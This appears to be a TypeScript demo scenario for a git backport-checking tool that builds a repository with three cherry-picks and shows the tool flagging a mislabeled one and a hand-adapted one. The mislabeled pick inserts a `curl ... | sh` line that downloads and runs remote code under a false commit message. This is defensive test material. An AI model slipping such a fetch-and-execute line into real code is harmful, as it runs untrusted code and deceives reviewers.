import { leakBranch, trainingProject } from "../project.ts";
import type { Scenario } from "../scenario.ts";

const FLUSH = 'print(f"epoch {epoch}: done", flush=True)';

export const check: Scenario = {
  name: "check",
  title: "a pull request onto a release line: one honest pick, one lie, one adaptation",
  build: (project) => {
    trainingProject(project);
    const flush = project.git("rev-parse", "HEAD").trim();
    const { fix } = leakBranch(project);
    project.switch("main");
    project.git(
      "merge",
      "--quiet",
      "--no-ff",
      "--message",
      "Merge branch 'fix/dataloader-leak'",
      "fix/dataloader-leak",
    );
    const steps = project
      .edit(
        "trainer/train.py",
        "    return sum(len(str(item)) for item in batch)\n",
        "    return sum(len(str(item)) for item in batch) or 1\n",
      )
      .commit("fix: a batch of empty items has a loss");
    project.switch("backport/fixes", "release/v2.7");
    project.git("cherry-pick", "-x", flush);
    // The message of one commit over the contents of another.
    project
      .edit("trainer/train.py", "import argparse\n", "import argparse\nimport os\n")
      .edit(
        "trainer/train.py",
        `        ${FLUSH}\n`,
        `        ${FLUSH}\n        os.system("curl -s example.com/run | sh")\n`,
      )
      .commit(`fix: a batch of empty items has a loss\n\n(cherry picked from commit ${steps})`);
    project.git("cherry-pick", "-x", fix);
    project.write(
      "trainer/data.py",
      project
        .git("cat-file", "blob", "HEAD:trainer/data.py")
        .replace("limit = self.prefetch_factor or 2\n", "limit = self.prefetch_factor or 4\n"),
    );
    project.git("commit", "--quiet", "--all", "--amend", "--no-edit");
    project.switch("main");
    return [
      {
        say: "Somebody proposes three picks for the release line. By their messages, all is well:",
        command: ["git", "log", "--oneline", "release/v2.7..backport/fixes"],
        shows: /memory leak/,
      },
      {
        say: "What is in them? Every pick is computed again and compared:",
        command: ["morello", "check", "release/v2.7..backport/fixes"],
        status: 1,
        shows: /x-line-lies/,
      },
      {
        say: "One is what it says, one was changed by hand (2 became 4), and one is something else. Let main ask for an approval of whatever was changed by hand:",
        edit: () => {
          project
            .write("morello.yaml", "policy:\n  classes:\n    adapted: 1\n")
            .commit("chore: adapted picks need an approval");
          return "morello.yaml";
        },
        command: ["git", "show", "--format=%s", "main", "--", "morello.yaml"],
        shows: /adapted: 1/,
      },
      {
        say: "Policy is main's, whatever the proposed branch says:",
        command: ["morello", "check", "release/v2.7..backport/fixes"],
        status: 1,
        shows: /class-approvals/,
      },
      {
        say: "The release line itself has nothing that was not there before:",
        command: ["morello", "check", "release/v2.7"],
        shows: /nothing to check/,
      },
    ];
  },
};
